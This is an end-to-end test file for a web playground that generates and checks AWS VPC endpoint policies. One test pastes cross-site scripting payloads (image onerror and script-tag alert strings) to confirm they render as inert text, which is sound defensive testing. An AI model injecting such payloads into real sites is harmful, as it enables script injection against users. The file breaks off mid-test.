// End-to-end tests of the built playground (dist/) in headless Chromium.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import { execFileSync } from 'node:child_process';
import http from 'node:http';
import { serve, launch, open, fixtures } from './harness.mjs';

const require = createRequire(import.meta.url);
let server, browser;
before(async () => { server = await serve(); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

const text = (page, sel) => page.locator(sel).textContent();
/** Waits until an element's text matches (the read-only policy views update just after each change). */
async function expectText(page, sel, re) {
  try {
    await page.waitForFunction(([s, src, flags]) => new RegExp(src, flags).test(document.querySelector(s)?.textContent ?? ''),
      [sel, re.source, re.flags], { timeout: 5000 });
  } catch {
    assert.match(await text(page, sel), re);
  }
}
const rows = (page) => page.$$eval('#scenarios tbody tr', (trs) => trs.map((tr) => ({
  name: tr.querySelector('th').firstChild.textContent, decision: tr.dataset.decision, expected: tr.dataset.expected, pass: tr.dataset.pass })));
/** The scenario rows once `ready(rows)` holds (up to 5 s): after an edited policy, the scenarios follow in the
 * task after the frame that paints its findings. */
async function rowsWhen(page, ready) {
  for (let i = 0; i < 100; i++) {
    const r = await rows(page);
    if (ready(r)) return r;
    await page.waitForTimeout(50);
  }
  return rows(page);
}

/** axe-core, evaluated over the DevTools protocol: the page's CSP (rightly) refuses an injected script tag. */
async function injectAxe(page) {
  await page.evaluate(fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8'));
}

async function fresh() {
  const context = await browser.newContext();
  return { context, page: await open(context, server.base) };
}

async function pasteIntoEditor(page, kind, value) {
  await page.click(`#edit-${kind}`);
  await page.fill('#policy-editor', value);
}

test('defaults: us-east-1/prod policies, every scenario passes, nothing leaves the origin', async () => {
  const { context, page } = await fresh();
  await expectText(page, '#imagebuilder-policy', /"imagebuilder:\*"/);
  await expectText(page, '#s3-policy', /arn:aws:s3:::ec2imagebuilder-toe-us-east-1-prod\/\*/);
  assert.equal(await text(page, '#imagebuilder-service-name'), 'com.amazonaws.us-east-1.imagebuilder');
  assert.equal(await text(page, '#imagebuilder-private-dns'), 'imagebuilder.us-east-1.amazonaws.com');
  const r = await rows(page);
  assert.ok(r.length >= 10);
  assert.ok(r.every((x) => x.pass === 'true' && x.decision === x.expected), JSON.stringify(r));
  assert.equal(await page.getAttribute('#decision', 'data-decision'), 'allowed');
  const origin = new URL(server.base).origin;
  assert.ok(page.requests.length > 0);
  assert.deepEqual(page.requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:')), []);
  assert.deepEqual(page.errors, []);
  await page.waitForTimeout(3200); // Chromium reports an unused or unchecked preload a few seconds after load
  assert.deepEqual(page.warnings, [], 'no console warning (the SRI-on-preload warning included)');
  await page.setViewportSize({ width: 1280, height: 1400 });
  // README's screenshot, refreshed on request only: a test run leaves the tree as it found it.
  if (process.env.UPDATE_SCREENSHOT) await page.screenshot({ path: path.join(fixtures, '../../../docs/screenshot.png') });
  await context.close();
});

test('editing region, environment and org IDs updates policies and scenarios live', async () => {
  const { context, page } = await fresh();
  await page.fill('#region-filter', 'eu-');
  await page.selectOption('#region', 'eu-west-1');
  await page.selectOption('#environment', 'preprod');
  await expectText(page, '#s3-policy', /ec2imagebuilder-toe-eu-west-1-preprod\/\*/);
  await page.fill('#principal-org-id', 'o-BAD');
  await expectText(page, '#principal-org-id-message', /not an organization ID/);
  assert.equal(await page.getAttribute('#principal-org-id', 'aria-invalid'), 'true');
  await page.fill('#principal-org-id', 'o-a1b2c3d4e5');
  await page.check('#deny-deletes');
  await page.check('#ssm');
  const ib = await text(page, '#imagebuilder-policy');
  assert.match(ib, /"aws:PrincipalOrgID": "o-a1b2c3d4e5"/);
  assert.match(ib, /"imagebuilder:DeleteImage"/);
  await expectText(page, '#s3-policy', /amazon-ssm-eu-west-1/);
  const r = await rows(page);
  const byName = Object.fromEntries(r.map((x) => [x.name, x]));
  assert.equal(byName['DeleteImage'].decision, 'explicitDeny');
  assert.equal(byName['Call from outside the organization'].decision, 'implicitDeny');
  assert.equal(byName['SSM agent download'].decision, 'allowed');
  assert.ok(r.every((x) => x.pass === 'true'));
  await page.fill('#region-filter', '');
  await page.selectOption('#region', 'cn-north-1');
  assert.equal(await text(page, '#imagebuilder-service-name'), 'cn.com.amazonaws.cn-north-1.imagebuilder');
  await expectText(page, '#s3-policy', /arn:aws-cn:s3:::/);
  await context.close();
});

test('pasting the docs broken policy shows its errors at the right lines; a click jumps there', async () => {
  const { context, page } = await fresh();
  const broken = fs.readFileSync(path.join(fixtures, 'docs-general.json'), 'utf8');
  await pasteIntoEditor(page, 'imagebuilder', broken);
  const found = await page.$$eval('#diagnostics li[data-code]', (lis) => lis.map((li) => `${li.dataset.code}@${li.dataset.line}:${li.dataset.column}`));
  for (const want of ['JSON_SYNTAX_ERROR@14:24', 'JSON_SYNTAX_ERROR@21:24', 'INVALID_ACTION@11:13', 'INVALID_ACTION@18:13', 'MISSING_PRINCIPAL@4:5']) {
    assert.ok(found.includes(want), `${want} in ${found}`);
  }
  await expectText(page, '#imagebuilder-policy-status', /error/);
  assert.ok(await page.locator('.editor .de').count() >= 4, 'errors are marked inline');
  await page.click('#diagnostics li[data-code="INVALID_ACTION"] button');
  const sel = await page.$eval('#policy-editor', (ta) => [ta.selectionStart, ta.selectionEnd, document.activeElement === ta]);
  const start = broken.indexOf('"imagebuilder: DeleteImage"');
  assert.deepEqual(sel, [start, start + '"imagebuilder: DeleteImage"'.length, true]);
  // Each finding opens its rule's documentation, rendered in the page from the core's registry: the same text
  // as `vpce-policy explain`.
  const doc = page.locator('#diagnostics li[data-code="INVALID_ACTION"] details.rule-doc').first();
  await doc.locator('summary').click();
  assert.match(await doc.textContent(), /About INVALID_ACTION/);
  assert.match(await doc.locator('pre.example.good').textContent(), /"Version"/);
  const cli = path.join(path.dirname(fixtures), '../../target/debug/vpce-policy');
  const explained = JSON.parse(execFileSync(cli, ['explain', 'INVALID_ACTION', '--format', 'json'], { encoding: 'utf8' }));
  assert.ok((await doc.textContent()).includes(explained.checks), 'the page and the CLI explain the same way');
  assert.equal(await doc.locator('a').getAttribute('href'), explained.url);
  const nbsp = fs.readFileSync(path.join(fixtures, 'docs-general-nbsp.json'), 'utf8');
  await page.fill('#policy-editor', nbsp);
  assert.ok((await page.$$eval('#diagnostics li[data-code]', (l) => l.map((x) => `${x.dataset.line}:${x.dataset.column}:${x.textContent}`))).some((s) => s.startsWith('2:1:') && s.includes('U+00A0')));
  await context.close();
});

test('markup pasted into an editor renders as text', async () => {
  const { context, page } = await fresh();
  let dialogs = 0;
  page.on('dialog', async (d) => { dialogs += 1; await d.dismiss(); });
  const evil = '{"Version": "2012-10-17", "Statement": [{"Sid": "<img src=x onerror=alert(1)>", "Effect": "Allow"}]}<script>alert(2)</script>';
  await pasteIntoEditor(page, 's3', evil);
  await page.fill('#request-action', '<img src=y onerror=alert(3)>');
  await page.waitForTimeout(200);
  assert.equal(dialogs, 0);
  assert.equal(await page.locator('main img').count(), 0);
  assert.equal(await page.locator('main script').count(), 0);
  assert.ok((await text(page, '.editor-body pre.overlay')).includes('<img src=x onerror=alert(1)>'), 'the editor shows it as text');
  await page.click('#close-editor');
  await expectText(page, '#s3-policy', /<img src=x onerror=alert\(1\)>/);
  assert.equal(await page.locator('main img').count(), 0, 'and so does the card, once the editor is closed');
  assert.equal(dialogs, 0);
  await context.close();
});

test('reload restores exactly; a share link opens the same state in a fresh context', async () => {
  const { context, page } = await fresh();
  await page.selectOption('#region', 'ap-southeast-2');
  await page.fill('#principal-org-id', 'o-f6g7h8i9j0');
  await pasteIntoEditor(page, 's3', '{"Version": "2012-10-17", "Statement": []}');
  await page.fill('#request-principal', 'arn:aws:iam::111122223333:role/Builder');
  await page.waitForTimeout(400); // the state is persisted once typing pauses
  // The S3 policy is open in the editor, so its card shows no second copy.
  const shown = async (p) => ({ ib: await text(p, '#imagebuilder-policy'), s3: await p.locator('#s3-policy').count(), s3InEditor: await p.locator('#s3-policy-in-editor').count(), editor: await p.inputValue('#policy-editor'), principal: await p.inputValue('#request-principal') });
  const before = await shown(page);
  assert.deepEqual([before.s3, before.s3InEditor], [0, 1]);
  await page.reload();
  await page.waitForSelector('#scenarios tbody tr');
  const after = await shown(page);
  assert.deepEqual(after, before);
  const link = page.url();
  assert.match(link, /#s=[A-Za-z0-9_-]+$/);
  const other = await browser.newContext();
  const shared = await open(other, link);
  assert.equal(await text(shared, '#imagebuilder-policy'), before.ib);
  assert.equal(await shared.inputValue('#policy-editor'), before.editor);
  assert.equal(await shared.inputValue('#region'), 'ap-southeast-2');
  await other.close();
  await page.click('#reset');
  assert.equal(await page.inputValue('#region'), 'us-east-1');
  assert.equal(await page.locator('#policy-editor').count(), 0);
  await context.close();
});

test('"Copy share link" right after an edit copies a link that holds the edit', async () => {
  const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
  const page = await open(context, server.base);
  await pasteIntoEditor(page, 's3', '{"Version": "2012-10-17", "Statement": []}');
  await page.waitForTimeout(400); // this state is in the address bar
  // The next edit reaches the address bar only once typing pauses; the button makes the link at the click.
  const edited = '{"Version": "2012-10-17", "Statement": [], "Id": "just-typed"}';
  await page.fill('#policy-editor', edited);
  await page.click('#copy-share-link');
  await page.waitForFunction(() => document.querySelector('#copy-share-link + .feedback').textContent.length > 0);
  assert.equal(await page.locator('#copy-share-link + .feedback').textContent(), 'Copied');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(link, /#s=[A-Za-z0-9_-]+$/);
  const other = await browser.newContext();
  const shared = await open(other, link);
  assert.equal(await shared.inputValue('#policy-editor'), edited);
  await other.close();
  await context.close();
});

test('a share link written before the browser deflated links (miniz_oxide, commit 51e7785) opens', async () => {
  const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), '../..');
  const link = fs.readFileSync(path.join(root, 'web/tests/fixtures/share-link-51e7785.txt'), 'utf8').trim();
  const context = await browser.newContext();
  const page = await open(context, `${server.base}#s=${link}`);
  await page.waitForSelector('#scenarios tbody tr');
  assert.equal(await page.inputValue('#region'), 'eu-central-1');
  assert.equal(await page.locator('#notice').count(), 0);
  assert.match(await page.textContent('#s3-service-name'), /eu-central-1/);
  await context.close();
});

test('a malformed share link or saved state falls back to defaults with a notice', async () => {
  const context = await browser.newContext();
  const page = await open(context, server.base + '#s=not-a-real-state');
  await expectText(page, '#notice', /share link could not be opened: the link looks cut off or changed/);
  assert.equal(await page.inputValue('#region'), 'us-east-1');
  await context.close();
  // Corrupt saved state, planted before any app code runs (so no pending autosave can overwrite it).
  const corrupted = await browser.newContext();
  await corrupted.addInitScript(() => localStorage.setItem('vpce-policy/state/v1', '"{broken'));
  const again = await open(corrupted, server.base);
  await expectText(again, '#notice', /saved playground state could not be restored/);
  assert.equal(await again.inputValue('#region'), 'us-east-1');
  await corrupted.close();
});

test('query parameters prefill the form; embed mode drops the page chrome', async () => {
  const context = await browser.newContext();
  const page = await open(context, server.base + '?region=eu-west-1&environment=preprod&principalOrgId=o-a1b2c3d4e5&embed=1');
  assert.equal(await page.inputValue('#region'), 'eu-west-1');
  assert.equal(await page.inputValue('#environment'), 'preprod');
  assert.equal(await page.inputValue('#principal-org-id'), 'o-a1b2c3d4e5');
  await expectText(page, '#s3-policy', /eu-west-1-preprod/);
  assert.equal(await page.locator('header.page-header').count(), 0);
  assert.ok(await page.evaluate(() => document.body.classList.contains('embed')));
  await context.close();
});

test('copy buttons give visible feedback; custom request shows decision and trace', async () => {
  const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
  const page = await open(context, server.base);
  await page.click('#copy-s3-cli');
  await page.waitForFunction(() => document.querySelector('#copy-s3-cli').nextElementSibling.textContent.length > 0);
  assert.equal(await page.locator('#copy-s3-cli + .feedback').textContent(), 'Copied');
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(copied, /aws ec2 create-vpc-endpoint/);
  await page.selectOption('#request-endpoint', 'imagebuilder');
  await page.fill('#request-action', 'imagebuilder:DeleteImage');
  await page.fill('#request-resource', '*');
  await page.check('#deny-deletes');
  assert.equal(await page.getAttribute('#decision', 'data-decision'), 'explicitDeny');
  await expectText(page, '#trace', /DenyImageBuilderDeletes/);
  await page.selectOption('#identity-layer', 'these');
  await page.fill('#request-action', 'imagebuilder:GetImage');
  assert.equal(await page.getAttribute('#decision', 'data-decision'), 'allowed');
  await expectText(page, '#trace', /identity policy/);
  await context.close();
});

test('accessibility: axe-core finds no violations, and the page works by keyboard', async () => {
  const { context, page } = await fresh();
  await page.click('#edit-imagebuilder');
  await page.selectOption('#identity-layer', 'these');
  await page.selectOption('#resource-layer', 'these');
  await injectAxe(page);
  const result = await page.evaluate(async () => await window.axe.run(document, { resultTypes: ['violations'] }));
  assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`), []);
  await page.focus('#region');
  await page.keyboard.press('End');
  assert.notEqual(await page.inputValue('#region'), 'us-east-1');
  await page.focus('#ssm');
  await page.keyboard.press('Space');
  assert.ok(await page.isChecked('#ssm'));
  await context.close();
});

test('the request panel models identity and resource layers as AWS combines them', async () => {
  const { context, page } = await fresh();
  await page.fill('#principal-org-id', 'o-a1b2c3d4e5');
  await page.fill('#request-principal', 'arn:aws:sts::111122223333:assumed-role/Builder/build-1');
  await page.fill('#request-action', 's3:GetObject');
  await page.fill('#request-resource', 'arn:aws:s3:::my-bucket/key');
  await page.fill('#request-context', 'aws:PrincipalOrgID = o-a1b2c3d4e5\naws:ResourceOrgID = o-a1b2c3d4e5');
  const decision = async () => [await page.getAttribute('#decision', 'data-decision'), await text(page, '#decision-reason')];
  assert.equal((await decision())[0], 'allowed', 'endpoint only: the org statement allows it');
  await page.selectOption('#identity-layer', 'none');
  assert.deepEqual((await decision())[0], 'implicitDeny');
  assert.match(await text(page, '#decision'), /blocked by the identity layer/);
  // A bucket policy naming the role overrides the identity policies' implicit deny in the same account.
  await page.selectOption('#resource-layer', 'these');
  const [d, why] = await decision();
  assert.equal(d, 'allowed');
  assert.match(why, /the role/);
  // Across accounts, both sides must allow.
  await page.fill('#request-resource-account', '444455556666');
  assert.equal((await decision())[0], 'implicitDeny');
  assert.match(await text(page, '#decision'), /blocked by the identity layer/);
  await page.selectOption('#identity-layer', 'these');
  assert.equal((await decision())[0], 'allowed');
  await page.selectOption('#resource-layer', 'none');
  assert.equal((await decision())[0], 'implicitDeny');
  assert.match(await text(page, '#decision'), /blocked by the resource layer/);
  await context.close();
});

test('the page and the CLI generate the same policies, byte for byte, for the same inputs', async () => {
  const cli = path.join(path.dirname(fixtures), '../../target/debug/vpce-policy');
  // The page plans the whole kit unless a link says kit=0, as `generate --kit` and `generate`.
  const grid = [
    {},
    { kit: '0' },
    { region: 'eu-west-1', environment: 'preprod', principalOrgId: 'o-a1b2c3d4e5' },
    { region: 'cn-north-1', principalOrgId: 'o-a1b2c3d4e5', resourceOrgId: 'o-f6g7h8i9j0', denyDeletes: '1', ssm: '1' },
    { region: 'us-gov-west-1', environment: 'beta', accountIds: '111122223333,210987654321', managedResources: '1' },
    { principalOrgId: 'o-a1b2c3d4e5', allowOutsideOrg: '1', denyDeletes: '1', denyAllDeletes: '1' },
    { region: 'ap-southeast-2', principalOrgId: 'o-a1b2c3d4e5', accountIds: '111122223333', managedResources: '1', ssm: '1' },
  ];
  const flags = { region: '--region', environment: '--environment', principalOrgId: '--principal-org-id', resourceOrgId: '--resource-org-id' };
  const bools = { denyDeletes: '--deny-deletes', denyAllDeletes: '--deny-all-deletes', managedResources: '--managed-resources', ssm: '--ssm', allowOutsideOrg: '--allow-outside-org' };
  for (const inputs of grid) {
    const context = await browser.newContext(); // no saved state from the previous inputs
    const args = ['generate', '--region', inputs.region ?? 'us-east-1', ...(inputs.kit === '0' ? [] : ['--kit'])];
    for (const [k, v] of Object.entries(inputs)) {
      if (k === 'region' || k === 'kit') continue;
      if (flags[k]) args.push(flags[k], v);
      else if (bools[k]) args.push(bools[k]);
      else if (k === 'accountIds') for (const a of v.split(',')) args.push('--account-id', a);
    }
    const page = await open(context, server.base + '?' + new URLSearchParams(inputs));
    for (const target of ['imagebuilder', 's3']) {
      // The CLI ends its output with a newline; the document is the rest.
      const fromCli = execFileSync(cli, [...args, '--target', target, '--format', 'json'], { encoding: 'utf8' }).replace(/\n$/, '');
      await page.waitForFunction(([sel, want]) => document.querySelector(sel)?.textContent === want, [`#${target}-policy`, fromCli], { timeout: 5000 })
        .catch(async () => assert.equal(await text(page, `#${target}-policy`), fromCli, `${target} ${JSON.stringify(inputs)}`));
    }
    await context.close();
  }
});

test('a policy AWS would reject is said to be rejected first, and results are marked as written', async () => {
  const { context, page } = await fresh();
  assert.equal(await page.locator('#scenarios-rejected').count(), 0);
  const nbsp = fs.readFileSync(path.join(fixtures, 'docs-general-nbsp.json'), 'utf8');
  await pasteIntoEditor(page, 'imagebuilder', nbsp);
  await expectText(page, '#scenarios-rejected', /AWS rejects this policy\. AWS rejects the imagebuilder endpoint policy \(\d+ errors/);
  assert.equal(await page.getAttribute('#scenarios', 'data-as-written'), 'true');
  await expectText(page, '#scenarios-summary', /as written/);
  // The rejection comes before the table in the page.
  assert.ok(await page.evaluate(() => document.querySelector('#scenarios-rejected').compareDocumentPosition(document.querySelector('#scenarios')) & Node.DOCUMENT_POSITION_FOLLOWING));
  await page.selectOption('#request-endpoint', 'imagebuilder');
  await page.fill('#request-action', 'imagebuilder:GetImage');
  await page.fill('#request-resource', '*');
  await expectText(page, '#request-rejected', /AWS rejects a policy on this path/);
  await context.close();
});

test('a link that cannot be read leaves saved work alone and stays copyable; a pasted link loads after asking', async () => {
  const context = await browser.newContext();
  const page = await open(context, server.base);
  await page.selectOption('#region', 'eu-west-1');
  await pasteIntoEditor(page, 's3', '{"Version": "2012-10-17", "Statement": []}');
  await page.waitForTimeout(400); // persisted once typing pauses
  const good = page.url();
  // A truncated link: the saved work is shown, the notice is in plain words, the link stays visible and in the bar.
  const truncated = good.slice(0, good.indexOf('#s=') + 20);
  await page.goto(truncated);
  await page.waitForSelector('#notice');
  const notice = await text(page, '#notice');
  assert.match(notice, /could not be opened: the link looks cut off or changed/);
  assert.doesNotMatch(notice, /Status|Error\(|base64/);
  assert.equal(await page.inputValue('#broken-link'), truncated);
  assert.equal(await page.inputValue('#region'), 'eu-west-1');
  assert.equal(await page.inputValue('#policy-editor'), '{"Version": "2012-10-17", "Statement": []}');
  await page.waitForTimeout(400);
  assert.equal(page.url(), truncated, 'the broken link is not overwritten');
  // The plain URL still has the saved work.
  await page.goto(server.base);
  await page.waitForSelector('#scenarios tbody tr');
  assert.equal(await page.inputValue('#region'), 'eu-west-1');
  assert.equal(await page.inputValue('#policy-editor'), '{"Version": "2012-10-17", "Statement": []}');
  // Pasting another share link into the open tab loads it, after asking because there is own work here.
  const other = await browser.newContext();
  const otherPage = await open(other, server.base + '?region=ap-southeast-2');
  await otherPage.waitForTimeout(400);
  const link = otherPage.url();
  await other.close();
  let asked = '';
  page.once('dialog', (d) => { asked = d.message(); d.accept(); });
  await page.evaluate((hash) => { location.hash = hash; }, link.slice(link.indexOf('#')));
  await page.waitForFunction(() => document.querySelector('#region').value === 'ap-southeast-2');
  assert.match(asked, /replaces the policies you edited/);
  await context.close();
});

test('the sample request follows region, environment and endpoint; region search knows place names', async () => {
  const { context, page } = await fresh();
  await page.fill('#region-filter', 'frankfurt');
  // The one match is selected.
  await page.waitForFunction(() => document.querySelector('#region')?.value === 'eu-central-1');
  const options = await page.$$eval('#region option', (os) => os.map((o) => o.value));
  assert.deepEqual(options, ['eu-central-1'], 'the match, which is now the selected region');
  await page.fill('#region-filter', 'GovCloud');
  assert.deepEqual((await page.$$eval('#region option', (os) => os.map((o) => o.value))).sort(), ['eu-central-1', 'us-gov-east-1', 'us-gov-west-1']);
  await page.selectOption('#environment', 'beta');
  assert.equal(await page.inputValue('#request-resource'), 'arn:aws:s3:::ec2imagebuilder-toe-eu-central-1-beta/TOE/1.0.0/linux/amd64/awstoe');
  assert.equal(await page.getAttribute('#decision', 'data-decision'), 'allowed');
  await page.selectOption('#request-endpoint', 'imagebuilder');
  assert.equal(await page.inputValue('#request-action'), 'imagebuilder:GetImage');
  assert.equal(await page.getAttribute('#decision', 'data-decision'), 'allowed');
  await page.fill('#request-action', 'imagebuilder:DeleteImage');
  await page.selectOption('#region', 'us-gov-west-1');
  assert.equal(await page.inputValue('#request-action'), 'imagebuilder:DeleteImage', 'an edited request stays as edited');
  await page.click('#request-use-sample');
  assert.match(await page.inputValue('#request-resource'), /^arn:aws-us-gov:imagebuilder:us-gov-west-1:/);
  await context.close();
  const typo = await browser.newContext();
  const p2 = await open(typo, server.base + '?region=eu-wst-1');
  await expectText(p2, '#notice', /region=eu-wst-1 \(no such region; did you mean eu-west-1\?\)/);
  assert.equal(await p2.inputValue('#region'), 'us-east-1');
  await typo.close();
});

test('while an org ID is half typed, the field says why and the last good policies stay, dimmed', async () => {
  const { context, page } = await fresh();
  await page.fill('#principal-org-id', 'o-a1b2c3d4e5');
  await expectText(page, '#imagebuilder-policy', /o-a1b2c3d4e5/);
  await page.fill('#principal-org-id', 'o-a1b2');
  await expectText(page, '#principal-org-id-message', /not an organization ID/);
  assert.match(await text(page, '#imagebuilder-policy'), /o-a1b2c3d4e5/, 'the last good policy is kept');
  assert.equal(await page.getAttribute('section.endpoint:has(#imagebuilder-policy)', 'data-stale'), 'true');
  await expectText(page, '#imagebuilder-policy-stale', /last valid inputs/);
  assert.ok((await page.$$eval('#scenarios tbody tr', (r) => r.length)) > 0, 'scenarios stay too');
  await page.fill('#principal-org-id', 'o-f6g7h8i9j0');
  await expectText(page, '#imagebuilder-policy', /o-f6g7h8i9j0/);
  assert.equal(await page.getAttribute('section.endpoint:has(#imagebuilder-policy)', 'data-stale'), 'false');
  await context.close();
});

test('Fix and Fix all use the core fixes, every no-break space is marked, and Fix all, Reset and Back to generated can be undone', async () => {
  const { context, page } = await fresh();
  const nbsp = fs.readFileSync(path.join(fixtures, 'docs-general-nbsp.json'), 'utf8');
  const occurrences = [...nbsp].filter((c) => c === '\u00a0').length;
  assert.ok(occurrences > 50, `${occurrences}`);
  await pasteIntoEditor(page, 'imagebuilder', nbsp);
  const nbspLines = nbsp.split('\n').filter((l) => l.includes('\u00a0')).length;
  const marked = await page.$$eval('.editor .de', (spans) => spans.filter((s) => /^\u00a0+$/.test(s.textContent)).length);
  assert.ok(marked >= nbspLines, `every occurrence is marked: ${marked} marked runs for ${nbspLines} lines`);
  // One NBSP finding, one Fix: every occurrence goes.
  await page.click('#diagnostics li[data-code="JSON_SYNTAX_ERROR"] button.fix');
  assert.ok(!(await page.inputValue('#policy-editor')).includes('\u00a0'));
  // Fix all: what `vpce-policy validate --fix` does; then no error finding is left.
  const beforeFixAll = await page.inputValue('#policy-editor');
  await page.click('#fix-all');
  await expectText(page, '#imagebuilder-policy-status', /Valid/);
  assert.equal(await page.$$eval('#diagnostics li[data-severity="error"]', (l) => l.length), 0);
  const fixed = await page.inputValue('#policy-editor');
  // Focus stays in the editor, the number of fixes is announced, and Ctrl+Z restores the text byte for byte.
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'policy-editor');
  assert.match(await page.textContent('#undo-bar'), /Applied \d+ certain fix(es)?\./);
  await page.keyboard.press('Control+z');
  await page.waitForFunction((t) => document.querySelector('#policy-editor').value === t, beforeFixAll, { timeout: 5000 });
  assert.equal(await page.inputValue('#policy-editor'), beforeFixAll);
  await expectText(page, '#imagebuilder-policy-status', /error/i);
  await page.click('#undo');
  assert.notEqual(await page.inputValue('#policy-editor'), fixed);
  assert.ok((await page.$$eval('#diagnostics li[data-severity="error"]', (l) => l.length)) > 0, 'undo brings the errors back');
  // Back to generated, undone.
  await page.click('#revert-imagebuilder');
  await page.click('#undo');
  assert.ok((await page.inputValue('#policy-editor')).includes('imagebuilder: DeleteImage'));
  // Reset, undone.
  await page.selectOption('#region', 'eu-west-1');
  await page.click('#reset');
  assert.equal(await page.inputValue('#region'), 'us-east-1');
  await page.click('#undo');
  assert.equal(await page.inputValue('#region'), 'eu-west-1');
  await context.close();
});

test('a scenario row replays in the request panel; the trace speaks in words and shows the context; the path is drawn', async () => {
  const { context, page } = await fresh();
  await page.fill('#principal-org-id', 'o-a1b2c3d4e5');
  const row = page.locator('#scenarios tbody tr', { hasText: 'outside the organization' }).first();
  const expected = await row.getAttribute('data-decision');
  await row.locator('button.replay').click();
  assert.equal(await page.getAttribute('#decision', 'data-decision'), expected, 'the replayed request decides as its row');
  assert.ok(await page.evaluate(() => document.activeElement?.id === 'request'), 'focus moves to the request panel');
  const trace = await text(page, '#trace');
  assert.doesNotMatch(trace, /NoMatch|noMatch/);
  assert.match(trace, /endpoint policy: (allows|denies|no statement applies)/);
  assert.match(trace, /The request carried (no )?aws:PrincipalOrgID/);
  // The picture: boxes in AWS's order, the endpoint coloured by its outcome and marked as the one that decided.
  const boxes = await page.$$eval('#request .decision-path g.layer', (gs) => gs.map((g) => [g.dataset.layer, g.dataset.state, g.dataset.decided]));
  assert.deepEqual(boxes.map((b) => b[0]), ['endpoint', 'scp', 'rcp', 'identity', 'permissionsBoundary', 'session', 'resource']);
  assert.equal(boxes[0][2], expected === 'allowed' ? 'false' : 'true');
  await page.selectOption('#identity-layer', 'none');
  await page.fill('#request-principal', 'arn:aws:iam::111122223333:role/Builder');
  await page.fill('#request-context', 'aws:PrincipalOrgID = o-a1b2c3d4e5\naws:ResourceOrgID = o-a1b2c3d4e5');
  await page.fill('#request-action', 'imagebuilder:GetImage');
  await page.selectOption('#request-endpoint', 'imagebuilder');
  const identity = await page.$eval('#request .decision-path g[data-layer="identity"]', (g) => [g.dataset.state, g.dataset.decided]);
  assert.deepEqual(identity, ['empty', 'true']);
  // A principal that is not an ARN, an account, a service or anonymous is a request error.
  await page.fill('#request-principal', 'Builder');
  assert.equal(await page.getAttribute('#decision', 'data-decision'), 'invalid-request');
  await expectText(page, '#decision', /is not an IAM or STS ARN/);
  // Each scenario row has the same picture in its detail, drawn when opened.
  assert.ok((await page.locator('#scenarios details.path').count()) > 5);
  await page.locator('#scenarios details.path summary').first().click();
  await page.waitForSelector('#scenarios details.path .decision-path svg g[data-layer="endpoint"]');
  await context.close();
});

/**
 * For each drawn line of the overlay that has text: [line, overlay line top, textarea line top, gutter line top],
 * relative to the page. The overlay draws the lines in view and a margin (`data-first` is the first one drawn);
 * newlines stand for the others.
 */
async function lineTops(page) {
  return page.evaluate(() => {
    const ta = document.querySelector('#policy-editor');
    const code = document.querySelector('.editor-body pre.overlay code');
    const gutter = document.querySelector('.editor pre.gutter');
    const cs = getComputedStyle(ta);
    const lines = ta.value.split('\n');
    // The textarea's real line pitch (layout rounds line heights), measured from its scrollable content height.
    const overflowing = ta.scrollHeight > ta.clientHeight + 1;
    const lh = overflowing
      ? (ta.scrollHeight - parseFloat(cs.paddingTop) - parseFloat(cs.paddingBottom)) / lines.length
      : parseFloat(cs.lineHeight);
    const base = ta.getBoundingClientRect().top + parseFloat(cs.paddingTop) + parseFloat(cs.borderTopWidth) - ta.scrollTop;
    const topOfOffset = (root, offset) => {
      const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
      let seen = 0;
      for (let n = walker.nextNode(); n; n = walker.nextNode()) {
        if (seen + n.length > offset) {
          const r = document.createRange();
          r.setStart(n, offset - seen);
          r.setEnd(n, Math.min(offset - seen + 1, n.length));
          return r.getBoundingClientRect().top;
        }
        seen += n.length;
      }
      return NaN;
    };
    const first = Number(code.dataset.first);
    const drawn = [...code.querySelectorAll(':scope > .ln:not(.skip)')];
    const gutterStarts = [];
    for (let i = 0, at = 0; i < lines.length; i++) {
      gutterStarts.push(at);
      at += String(i + 1).length + 1;
    }
    const out = [];
    const wrongText = [];
    drawn.forEach((el, k) => {
      const i = first + k;
      const expected = lines[i] + (i < lines.length - 1 ? '\n' : '');
      if (el.textContent !== expected) wrongText.push(i);
      if (lines[i].length > 0) out.push([i, topOfOffset(el, 0), base + i * lh, topOfOffset(gutter, gutterStarts[i])]);
    });
    // The lines in view, which the drawn ones must cover.
    const inView = [Math.floor(ta.scrollTop / lh), Math.min(lines.length, Math.ceil((ta.scrollTop + ta.clientHeight) / lh))];
    return { rows: out, wrongText, drawn: [first, first + drawn.length], inView, lines: lines.length,
      taHeight: ta.scrollHeight, overlayHeight: document.querySelector('.editor-body pre.overlay').scrollHeight, lh };
  });
}

/** Scrolls the editor's textarea to `top` and waits for the overlay to follow: scrolled as far, the view drawn. */
async function scrollEditor(page, top) {
  await page.evaluate((top) => { document.querySelector('#policy-editor').scrollTop = top; }, top);
  await page.waitForFunction(() => {
    const ta = document.querySelector('#policy-editor');
    const overlay = document.querySelector('.editor-body pre.overlay');
    const code = overlay.querySelector('code');
    const lines = ta.value.split('\n').length;
    const lh = ta.scrollHeight / lines;
    const first = Number(code.dataset.first);
    const drawn = code.querySelectorAll(':scope > .ln:not(.skip)').length;
    return Math.abs(overlay.scrollTop - ta.scrollTop) < 1 && first <= Math.floor(ta.scrollTop / lh)
      && first + drawn >= Math.min(lines, Math.ceil((ta.scrollTop + ta.clientHeight) / lh));
  });
}

test('the editor draws every line where the caret is, at several font sizes and zoom levels, to the last line', async () => {
  const docs = fs.readFileSync(path.join(fixtures, 'docs-general.json'), 'utf8');
  const long = JSON.stringify({ Version: '2012-10-17', Statement: Array.from({ length: 90 }, (_, i) => ({ Sid: `S${i}`, Effect: 'Allow', Principal: '*', Action: 'imagebuilder:GetImage', Resource: '*' })) }, null, 2);
  assert.ok(long.split('\n').length > 480);
  // Browser zoom is a device scale factor: CSS pixels fall on fractional device pixels.
